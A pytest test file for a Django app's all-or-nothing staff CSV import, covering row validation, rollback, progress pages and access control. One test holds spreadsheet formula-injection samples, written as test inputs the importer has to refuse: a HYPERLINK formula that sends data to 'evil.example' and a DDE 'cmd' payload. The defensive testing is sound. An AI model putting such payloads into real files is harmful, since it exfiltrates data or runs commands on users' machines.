"""Staff CSV import: all or nothing, each bad row named with its reason."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from oversight.core.models import AuditAction, AuditEvent
from oversight.people.imports import COLUMNS, parse_date, staff_import_csv, template_csv
from oversight.people.models import (
    LineManagement,
    Membership,
    Person,
    Role,
    RoleAssignment,
    StaffImport,
    StaffImportState,
    SupervisionRelationship,
)

IMPORT_DAY = dt.date(2026, 11, 17)


@pytest.fixture(autouse=True)
def _pinned(time_machine: Any) -> None:
    """Every test here imports on 17 November 2026 (before the cast is made)."""
    time_machine.move_to(
        dt.datetime(2026, 11, 17, 10, tzinfo=ZoneInfo("Europe/London")), tick=False
    )


def _csv(rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS)
    writer.writeheader()
    for row in rows:
        writer.writerow({c: row.get(c, "") for c in COLUMNS})
    return out.getvalue().encode()


def _row(n: int, agency: str, **extra: str) -> dict[str, str]:
    return {
        "employee_number": f"E{n}",
        "given_name": f"Given{n}",
        "family_name": f"Family{n}",
        "email": f"staff{n}@example.org",
        "agency": agency,
        "job_title": "Social worker",
        "start_date": "2024-04-01",
        **extra,
    }


def _good_file(cast: Any) -> bytes:
    agency = cast.agency.name
    return _csv(
        [
            # Row 2 is supervised by row 3, a later row in the same file.
            _row(
                1,
                agency,
                team="Assessment Team",
                staff_group="social workers",
                new_starter="newly_qualified",
                new_starter_until="31/03/2025",
                supervisor_email="staff2@example.org",
                line_manager_email=cast.line_manager.email,
                roles="practitioner",
            ),
            _row(
                2,
                agency,
                username="super2",
                job_title="Practice supervisor",
                start_date="01/01/2020",
                contact="indirect",
                roles="supervisor; Line manager",
            ),
        ]
    )


def test_good_file_imports_people_posts_relationships_and_roles(cast: Any) -> None:
    result = staff_import_csv(actor=cast.administrator, content=_good_file(cast))
    assert result.ok, result.errors
    assert result.counts == {
        "people": 2,
        "posts": 2,
        "roles": 3,
        "supervision": 1,
        "line_management": 1,
    }
    one = Person.objects.get(email="staff1@example.org")
    two = Person.objects.get(username="super2")
    post = Membership.objects.get(person=one)
    assert post.team == cast.team and post.staff_group == cast.staff_group
    assert post.new_starter == "newly_qualified" and str(post.new_starter_until) == "2025-03-31"
    assert Membership.objects.get(person=two).contact_level == "indirect"
    assert SupervisionRelationship.objects.get(supervisee=one).supervisor == two
    assert LineManagement.objects.get(report=one).manager == cast.line_manager
    assert set(RoleAssignment.objects.filter(person=two).values_list("role", flat=True)) == {
        Role.SUPERVISOR,
        Role.LINE_MANAGER,
    }
    event = AuditEvent.objects.get(action=AuditAction.IMPORT)
    assert event.detail["people"] == 2 and event.actor == cast.administrator


def test_an_import_starts_relationships_on_the_import_date_not_the_date_in_post(
    cast: Any,
) -> None:
    """The file's start dates are 2020 and 2024: the posts start then, the relationships
    today, so months already reported do not gain a supervisor nobody had."""
    result = staff_import_csv(actor=cast.administrator, content=_good_file(cast))
    assert result.ok, result.errors
    one = Person.objects.get(email="staff1@example.org")
    assert str(Membership.objects.get(person=one).starts_on) == "2024-04-01"
    assert SupervisionRelationship.objects.get(supervisee=one).starts_on == IMPORT_DAY
    assert LineManagement.objects.get(report=one).starts_on == IMPORT_DAY


def test_an_import_starts_relationships_on_the_dates_the_file_gives_for_them(cast: Any) -> None:
    rows = [
        _row(1, cast.agency.name, supervisor_email="staff2@example.org"),
        _row(2, cast.agency.name, start_date="2020-01-01"),
    ]
    rows[0] |= {
        "supervised_since": "06/01/2025",
        "line_manager_email": cast.line_manager.email,
        "line_managed_since": "2025-02-03",
    }
    result = staff_import_csv(actor=cast.administrator, content=_csv(rows))
    assert result.ok, result.errors
    one = Person.objects.get(email="staff1@example.org")
    assert str(SupervisionRelationship.objects.get(supervisee=one).starts_on) == "2025-01-06"
    assert str(LineManagement.objects.get(report=one).starts_on) == "2025-02-03"


def test_a_supervised_since_before_the_post_names_the_row(cast: Any) -> None:
    rows = [
        _row(1, cast.agency.name, supervisor_email="staff2@example.org"),
        _row(2, cast.agency.name),
    ]
    rows[0]["supervised_since"] = "2023-01-01"  # the post starts on 1 April 2024
    result = staff_import_csv(actor=cast.administrator, content=_csv(rows))
    assert not result.ok
    assert any(e.startswith("Row 2: ") and "no post" in e for e in result.errors), result.errors
    assert not Person.objects.filter(email="staff1@example.org").exists()


def test_importing_the_same_file_twice_adds_nothing_new(cast: Any) -> None:
    staff_import_csv(actor=cast.administrator, content=_good_file(cast))
    again = staff_import_csv(actor=cast.administrator, content=_good_file(cast))
    assert again.ok, again.errors
    assert set(again.counts.values()) == {0}


@pytest.mark.parametrize(
    "bad, message",
    [
        ({"supervisor_email": "nobody@x.org"}, "Row 7: supervisor_email nobody@x.org is not a "),
        ({"agency": "Nowhere"}, "Row 7: agency Nowhere is not an agency"),
        ({"start_date": "2024-13-45"}, "Row 7: start_date 2024-13-45 is not a date"),
        ({"new_starter": "new_to_post"}, "Row 7: new_starter_until is needed"),
        ({"email": "staff2@example.org"}, "Row 7: email staff2@example.org is also on row 3"),
        ({"contact": "sometimes"}, "Row 7: contact sometimes must be direct or indirect"),
        ({"roles": "wizard"}, "Row 7: role wizard is not a role"),
        ({"team": "Night team"}, "Row 7: team Night team is not in"),
        ({"job_title": ""}, "Row 7: job_title is empty"),
        ({"username": "practitioner"}, "Row 7: username practitioner belongs to someone else"),
        (
            {"supervisor_email": "staff2@example.org", "supervised_since": "2025-02-30"},
            "Row 7: supervised_since 2025-02-30 is not a date",
        ),
        (
            {"line_manager_email": "staff2@example.org", "line_managed_since": "next week"},
            "Row 7: line_managed_since next week is not a date",
        ),
        (
            {"supervised_since": "2025-01-06"},
            "Row 7: supervised_since is given but supervisor_email is empty",
        ),
    ],
)
def test_one_bad_row_imports_nothing_and_names_the_row(
    cast: Any, bad: dict[str, str], message: str
) -> None:
    rows = [_row(n, cast.agency.name) for n in range(1, 7)]
    rows[5] = {**rows[5], **bad}  # the sixth data row: row 7 counting the header
    before = Person.objects.count()
    result = staff_import_csv(actor=cast.administrator, content=_csv(rows))
    assert not result.ok
    assert any(e.startswith(message) for e in result.errors), result.errors
    assert Person.objects.count() == before
    assert not AuditEvent.objects.filter(action=AuditAction.IMPORT).exists()


def test_a_service_refusal_rolls_back_everything(cast: Any) -> None:
    """Rows pass the checks but a service refuses one: the people already created from
    earlier rows are rolled back too."""
    SupervisionRelationship.objects.filter(supervisee=cast.practitioner).update(
        starts_on=parse_date("2020-01-01")
    )
    rows = [
        _row(9, cast.agency.name),
        {
            **_row(10, cast.agency.name, supervisor_email=cast.agency_lead.email),
            "email": cast.practitioner.email,
            "start_date": "2019-01-01",
            "supervised_since": "2019-01-01",
        },
    ]
    Membership.objects.filter(person=cast.practitioner).update(
        starts_on=parse_date("2015-01-01"), ends_on=parse_date("2018-12-31")
    )
    result = staff_import_csv(actor=cast.administrator, content=_csv(rows))
    assert not result.ok
    assert result.errors[0].startswith("Row 3: The supervisee already has")
    assert not Person.objects.filter(email="staff9@example.org").exists()
    assert not Membership.objects.filter(person=cast.practitioner, starts_on="2019-01-01")


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("given_name", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("family_name", "+1+cmd|' /C calc'!A0"),
        ("job_title", "-2+3"),
        ("employee_number", "@SUM(1,1)"),
        ("username", "=cmd"),
    ],
)
def test_the_staff_import_refuses_a_name_a_spreadsheet_would_run_as_a_formula(
    cast: Any, column: str, value: str
) -> None:
    """Issue 10 item 5: a value beginning with =, +, -, @, tab or carriage return in a name-like
    column is refused with its row named, and nothing is imported."""
    content = _csv([_row(1, cast.agency.name), _row(2, cast.agency.name, **{column: value})])
    result = staff_import_csv(actor=cast.administrator, content=content)
    assert not result.ok
    assert result.errors == [
        f"Row 3: {column} begins with “{value[0]}”, which a spreadsheet would run as a "
        "formula; correct it in the file"
    ]
    assert not Person.objects.filter(email__in=["staff1@example.org", "staff2@example.org"])


def test_missing_columns_and_bad_encoding(cast: Any) -> None:
    result = staff_import_csv(actor=cast.administrator, content=b"given_name,email\nA,a@b.org\n")
    assert "no column family_name, agency, job_title, start_date" in result.errors[0]
    result = staff_import_csv(actor=cast.administrator, content="é".encode("latin-1"))
    assert "UTF-8" in result.errors[0]


def test_template_has_every_column_and_its_rows_parse() -> None:
    rows = list(csv.reader(io.StringIO(template_csv())))
    assert rows[0] == COLUMNS and len(rows) == 3


def _upload(client: Any, content: bytes, capture: Any) -> Any:
    """Post the file as the page does; the queued import runs in this process (the immediate
    backend) once the request's transaction commits; the progress page it moved on to."""
    upload = SimpleUploadedFile("staff.csv", content, content_type="text/csv")
    with capture(execute=True):
        response = client.post(reverse("people:staff_import"), {"file": upload})
    assert response.status_code == 302, response.content.decode()
    return client.get(response["Location"])


def test_import_page_lists_bad_rows_and_imports_nothing(
    client: Any, cast: Any, django_capture_on_commit_callbacks: Any
) -> None:
    client.force_login(cast.administrator)
    rows = [_row(1, cast.agency.name), _row(2, cast.agency.name, supervisor_email="no@x.org")]
    page = _upload(client, _csv(rows), django_capture_on_commit_callbacks).content.decode()
    assert "Nothing was imported" in page
    assert "Row 3: supervisor_email no@x.org is not a person in the file or the system" in page
    assert not Person.objects.filter(email="staff1@example.org").exists()
    assert StaffImport.objects.get().state == StaffImportState.REFUSED


def test_import_page_shows_counts(
    client: Any, cast: Any, django_capture_on_commit_callbacks: Any
) -> None:
    client.force_login(cast.administrator)
    page = _upload(client, _good_file(cast), django_capture_on_commit_callbacks).content.decode()
    assert "Import complete" in page and "2 new people" in page
    job = StaffImport.objects.get()
    assert (job.state, job.rows_done, job.rows_total) == (StaffImportState.DONE, 2, 2)
    assert job.content == "", "the file's text is not kept once imported"


def test_an_import_waiting_for_the_worker_says_so_and_offers_a_refresh(
    client: Any, cast: Any
) -> None:
    """Without the commit (no worker has taken it yet) the page shows the rows to import
    and a plain link to look again: no script needed."""
    client.force_login(cast.administrator)
    upload = SimpleUploadedFile("staff.csv", _good_file(cast), content_type="text/csv")
    response = client.post(reverse("people:staff_import"), {"file": upload}, follow=True)
    page = response.content.decode()
    assert "Waiting to start: 2 rows to import." in page
    assert "Refresh to see progress" in page
    assert not Person.objects.filter(email="staff1@example.org").exists()


def test_the_progress_page_shows_rows_done_of_the_total(client: Any, cast: Any) -> None:
    job = StaffImport.objects.create(
        filename="staff.csv",
        content="x",
        rows_total=5000,
        rows_done=1200,
        state=StaffImportState.SAVING,
        created_by=cast.administrator,
    )
    client.force_login(cast.administrator)
    page = client.get(reverse("people:staff_import_progress", args=[job.pk])).content.decode()
    assert "Importing rows: 1200 of 5000 rows." in page


def test_a_file_wrong_as_a_whole_is_refused_on_the_form_and_nothing_is_queued(
    client: Any, cast: Any
) -> None:
    client.force_login(cast.administrator)
    upload = SimpleUploadedFile("staff.csv", b"name,email\nA,a@example.org\n")
    response = client.post(reverse("people:staff_import"), {"file": upload})
    assert response.status_code == 200
    assert "The file has no column given_name" in response.content.decode()
    assert not StaffImport.objects.exists()


def test_only_an_administrator_sees_an_import_and_not_once_their_role_ended(
    client: Any, cast: Any
) -> None:
    """Deny side: the agency's lead, and the administrator who started the import once they
    are no longer an administrator."""
    job = StaffImport.objects.create(
        filename="staff.csv", content="x", rows_total=1, created_by=cast.administrator
    )
    url = reverse("people:staff_import_progress", args=[job.pk])
    client.force_login(cast.agency_lead)
    assert client.get(url).status_code == 403
    RoleAssignment.objects.filter(person=cast.administrator, role=Role.ADMINISTRATOR).update(
        ends_on=IMPORT_DAY - dt.timedelta(days=1)
    )
    client.force_login(cast.administrator)
    assert client.get(url).status_code == 403


def test_template_download(client: Any, cast: Any) -> None:
    client.force_login(cast.administrator)
    response = client.get(reverse("people:staff_import_template"))
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.decode().startswith("employee_number,given_name")


@pytest.mark.parametrize("column", ["family_name", "email", "agency"])
def test_a_nul_character_in_a_cell_names_the_row_and_imports_nothing(
    cast: Any, column: str
) -> None:
    """Issue 10 item 7: a NUL byte left in a cell by an export was a server error on
    PostgreSQL. Now the row and cell are named and nothing is imported."""
    rows = [_row(1, cast.agency.name), _row(2, cast.agency.name)]
    rows[1][column] = rows[1][column][:3] + "\x00" + rows[1][column][3:]
    result = staff_import_csv(actor=cast.administrator, content=_csv(rows))
    assert result.errors == [
        f"Row 3: the {column} cell contains a character that cannot be stored; remove it in "
        "the file"
    ]
    assert not Person.objects.filter(email__startswith="staff").exists()


def test_the_import_page_names_the_cell_with_a_nul_character(client: Any, cast: Any) -> None:
    rows = [_row(1, cast.agency.name, family_name="Fam\x00ily1")]
    client.force_login(cast.administrator)
    upload = SimpleUploadedFile("staff.csv", _csv(rows), content_type="text/csv")
    response = client.post(reverse("people:staff_import"), {"file": upload})
    page = response.content.decode()
    assert response.status_code == 200
    assert "Row 2: the family_name cell contains a character that cannot be stored" in page
    assert not Person.objects.filter(email="staff1@example.org").exists()
    assert not StaffImport.objects.exists()


@pytest.mark.parametrize("value", ["0001-01-01", "9999-12-31", "31/12/1899"])
def test_an_implausible_start_date_in_the_file_names_the_row(cast: Any, value: str) -> None:
    """Issue 10 item 7: dates in the file are held to 1 January 1900 – 31 December 2100."""
    rows = [_row(1, cast.agency.name, start_date=value)]
    result = staff_import_csv(actor=cast.administrator, content=_csv(rows))
    assert result.errors == [
        f"Row 2: start_date {value} is not a plausible date (use a date from 1 January 1900 "
        "to 31 December 2100)"
    ]


def test_the_import_page_lists_recent_imports_in_a_fixed_number_of_queries(
    client: Any, cast: Any, django_assert_max_num_queries: Any
) -> None:
    for n in range(8):
        StaffImport.objects.create(
            filename=f"staff-{n}.csv",
            rows_total=1,
            state=StaffImportState.REFUSED,
            created_by=cast.administrator,
        )
    client.force_login(cast.administrator)
    client.get(reverse("people:staff_import"))  # the session and profile, once
    with django_assert_max_num_queries(14):  # none per import listed; one for the header
        page = client.get(reverse("people:staff_import")).content.decode()
    assert "Recent imports" in page
    assert "staff-7.csv" in page and "staff-2.csv" not in page  # the latest five
    job = StaffImport.objects.get(filename="staff-7.csv")
    assert reverse("people:staff_import_progress", args=[job.pk]) in page
